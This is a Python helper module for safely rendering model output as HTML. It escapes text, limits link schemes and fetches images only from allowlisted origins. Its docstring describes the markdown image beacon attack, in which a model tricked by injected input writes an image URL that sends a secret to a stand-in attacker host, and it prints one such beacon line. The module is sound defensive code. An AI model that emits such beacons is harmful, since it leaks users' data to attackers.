"""Safety: model text is data. Everything drawn is escaped; only vetted URLs become attributes.

A browser fetches what an ``<img src>`` names the moment the element exists,
even if the answer is later refused or cut: the Markdown image beacon
(``![x](https://attacker.example/?q=SECRET)``) leaks whatever the model was
tricked into writing. So an image URL becomes an attribute only when the
caller allowed its origin, and never for ``data:`` or ``javascript:``; a link
is an ``<a href>`` (fetched only on a click) only for ``http``, ``https`` and
``mailto`` and only once its block has settled.
"""

from __future__ import annotations

import html
from urllib.parse import urlsplit

LINK_SCHEMES = frozenset({"http", "https", "mailto"})
IMAGE_SCHEMES = frozenset({"http", "https"})


def esc(text: object) -> str:
    """`text` escaped for HTML content and attribute values (quotes included)."""
    return html.escape(str(text), quote=True)


def origin_of(url: str) -> str | None:
    """``scheme://host[:port]`` of an absolute http(s) URL, lower-cased; None otherwise."""
    try:
        parts = urlsplit(url.strip())
        host = parts.hostname
        port = parts.port
    except ValueError:
        return None
    scheme = parts.scheme.lower()
    if scheme not in IMAGE_SCHEMES or not host:
        return None
    return f"{scheme}://{host.lower()}" + (f":{port}" if port else "")


def image_allowed(url: str, origins: frozenset[str]) -> bool:
    """Whether an image at `url` may be fetched: its http(s) origin is on the allowlist."""
    origin = origin_of(url)
    return origin is not None and origin in origins


def link_allowed(url: str) -> bool:
    """Whether `url` may become an ``href``: an http(s) or mailto URL, nothing else."""
    try:
        scheme = urlsplit(url.strip()).scheme.lower()
    except ValueError:
        return False
    return scheme in LINK_SCHEMES


def normal_origins(origins: object) -> frozenset[str]:
    """The allowlist as a set of origins (each entry given as an origin or any URL on it)."""
    out = set()
    for entry in origins or ():
        origin = origin_of(str(entry))
        if origin is not None:
            out.add(origin)
    return frozenset(out)
